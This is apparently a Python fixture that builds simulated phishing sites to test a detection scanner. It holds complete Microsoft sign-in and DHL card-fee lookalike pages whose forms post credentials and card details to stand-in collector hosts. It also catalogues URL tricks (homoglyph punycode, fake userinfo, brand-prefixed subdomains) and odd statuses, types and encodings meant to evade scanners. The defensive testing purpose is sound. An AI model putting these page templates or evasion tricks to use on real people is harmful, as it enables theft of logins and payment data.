"""Bodies of phishing pages for the families whose point lies elsewhere (in a cloak, a gate, a chain), and sites that show them under
odd addresses, statuses, types and encodings."""
from .. import looks
from ..description import Reply
from .honest import application, field, page

PORTAL = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title>
<style>body{{font:15px "Segoe UI",sans-serif;background:#f2f2f2;margin:0}}.box{{width:360px;margin:12vh auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}}
h1{{font-size:24px;font-weight:600;margin:18px 0}}input{{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:0 0 18px;font-size:15px}}
button{{float:right;background:#0067b8;color:#fff;border:0;padding:8px 34px}}small{{color:#666}}</style></head><body><div class="box">{logo}<h1>Sign in</h1>
<form method="post" action="{action}"><input name="login" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password">
<p><small>No account? Create one!<br>Can't access your account?</small></p><button>Sign in</button></form></div></body></html>"""


def microsoft(action="/post.php"):
    return PORTAL.format(logo=looks.logo("microsoft"), action=action)


def parcel(action="/pay"):
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>DHL Express - parcel on hold</title><style>body{{margin:0;font:15px Arial}}
header{{background:#ffcc00;padding:10px 6%}}main{{padding:20px 6%;max-width:480px}}button{{background:#d40511;color:#fff;border:0;padding:12px 30px}}input{{display:block;width:100%;margin:8px 0;padding:9px}}</style>
</head><body><header>{looks.logo("dhl")}</header><main><h2>Your parcel is waiting</h2><p>An outstanding customs fee of <b>2.99 EUR</b> must be paid today, or your DHL parcel is returned.</p>
<form method="post" action="{action}"><input name="cc" placeholder="Card number" inputmode="numeric"><input name="exp" placeholder="MM/YY"><input name="cvv" type="password" placeholder="CVV">
<button>Pay and release</button></form></main></body></html>"""


def build(world):
    world.site("phish-plain", "phish", "https://northgate-voicemail.com/secure/login.html", "A Microsoft sign-in page on a foreign host, with nothing to hide it.", "phishing",
               brand="Microsoft", brand_in_text=True, evidence=("page.brand", "page.credentials"), shows="Can't access your account")
    world.at("northgate-voicemail.com/secure/login.html", microsoft())
    world.certificates["northgate-voicemail.com"] = "new"
    world.site("phish-http", "phish", "http://198-51-100-23.parcel-release-desk.org/track", "A parcel fee page without TLS.", "phishing",
               brand="DHL", brand_in_text=True, evidence=("page.brand", "page.payment"), shows="customs fee")
    world.at("198-51-100-23.parcel-release-desk.org/track", parcel())
    world.at("northgate-voicemail.com/", page("Welcome", "<h1>It works!</h1>", "nginx", "#555"))
    _addresses(world)
    _answers(world)
    world.site("phish-application", "phish", "https://workspace-mail-login.net/", "An application that is empty until its script has asked what to draw: a Microsoft sign-in.", "phishing", browser=True, brand="Microsoft", brand_in_text=True,
               evidence=("page.brand", "page.credentials"), shows="root")
    application(world, "workspace-mail-login.net", "Sign in to your account", {"set": {"style": "width:352px;padding:44px;margin:14vh auto;font:15px Segoe UI;box-shadow:0 2px 6px #0003"}, "of": [
        {"tag": "img", "set": {"src": looks.data_uri(looks.logo("microsoft")), "alt": "Microsoft"}}, {"tag": "h2", "text": "Sign in"}, {"tag": "form", "set": {"method": "post", "action": "https://collect-forms.net/in"}, "of": [
            field("loginfmt", "email", "Email, phone, or Skype"), field("passwd", "password", "Password"), {"tag": "button", "text": "Sign in", "set": {"style": "background:#0067b8;color:#fff"}}]}]})


def _addresses(world):
    """The same page under addresses that are written to mislead, or to be misread."""
    found = {"brand": "Microsoft", "brand_in_text": True, "evidence": ("page.brand", "page.credentials"), "shows": "Can't access your account"}
    for name, url, does in (
            ("phish-port", "https://ms-account-desk.net:8443/signin", "On port 8443."),
            ("phish-user", "https://login.microsoftonline.com@ms-account-desk.net/signin", "A user name that reads like the brand's host."),
            ("phish-address", "http://203.0.113.77/office/signin", "An address instead of a name."),
            ("phish-subdomains", "https://login.microsoftonline.com.session.verify.ms-account-desk.net/signin",
             "The brand's host as the beginning of a long name."),
            ("phish-other-letters", "https://xn--mcrosoft-tkb.com/signin", "A letter of another alphabet in the host's name."),
            ("phish-hyphens", "https://www-microsoft-com-account.secure-signin-session-8841.net/signin", "A name of nothing but hyphens and words."),
            ("phish-long", "https://ms-account-desk.net/signin?session=" + "8f3a" * 1500, "Six thousand characters of query."),
            ("phish-encoded", "https://ms-account-desk.net/%73%69%67%6e%69%6e", "A path of nothing but escapes."),
            ("phish-dots", "https://ms-account-desk.net/a/b/../../%2e/signin", "Dots in the path.")):
        world.site(name, "phish", url, does, "phishing", **found)
    for host in ("ms-account-desk.net", "203.0.113.77", "login.microsoftonline.com.session.verify.ms-account-desk.net", "xn--mcrosoft-tkb.com",
                 "www-microsoft-com-account.secure-signin-session-8841.net"):
        for path in ("/signin", "/office/signin", "/%73%69%67%6e%69%6e", "/a/b/../../%2e/signin"):
            world.at(host + path, microsoft())


PICTURE = """<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><rect width="800" height="600" fill="#f2f2f2"/><foreignObject x="200" y="100" width="400" height="400"><div xmlns="http://www.w3.org/1999/xhtml" style="background:#fff;padding:40px;font:15px Segoe UI">
<p>Microsoft</p><h1>Sign in</h1><form method="post" action="https://collect-forms.net/in"><p><input name="u" placeholder="Email, phone, or Skype"/></p><p><input name="p" type="password" placeholder="Password"/></p><button>Sign in</button></form></div></foreignObject></svg>"""


def _answers(world):
    """The same page with statuses, types and encodings that a scanner may take for a reason to look away."""
    found = {"brand": "Microsoft", "brand_in_text": True, "evidence": ("page.brand", "page.credentials")}
    xhtml = microsoft().replace("<!doctype html>", '<?xml version="1.0"?>\n<!DOCTYPE html>').replace('<html lang="en">', '<html xmlns="http://www.w3.org/1999/xhtml" lang="en">') \
        .replace('<meta charset="utf-8">',
                 "").replace("<br>", "<br/>").replace('placeholder="Email, phone, or Skype">', 'placeholder="Email, phone, or Skype"/>').replace('placeholder="Password">', 'placeholder="Password"/>')
    wide = microsoft().replace('<meta charset="utf-8">', "")
    for name, does, reply, status, shows in (
            ("phish-404", "Status 404, and a whole page.", Reply.of(microsoft(), status=404), 404, "Sign in"),
            ("phish-503", "Status 503, and a whole page.", Reply.of(microsoft(), status=503), 503, "Sign in"),
            ("phish-no-type", "No media type at all.", Reply.of(microsoft(), media_type=""), 200, "Sign in"),
            ("phish-xhtml", "XHTML.", Reply.of(xhtml, media_type="application/xhtml+xml"), 200, "Sign in"),
            ("phish-svg", "A picture (SVG) with a form in it.", Reply.of(PICTURE, media_type="image/svg+xml"), 200, "Sign in"),
            ("phish-utf-16", "UTF-16 with a mark of the byte order.", Reply(b"\xff\xfe" + wide.encode("utf-16-le"), media_type="text/html"), 200,
             "S\0i\0g\0n\0"),
            ("phish-odd-charset", "A charset that nobody knows.", Reply.of(wide, media_type="text/html; charset=x-unheard-of"), 200, "Sign in")):
        world.site(name, "phish", f"https://ms-billing-answers.com/{name}", does, "phishing", status=status, shows=shows, **found)
        world.at(f"ms-billing-answers.com/{name}", reply)
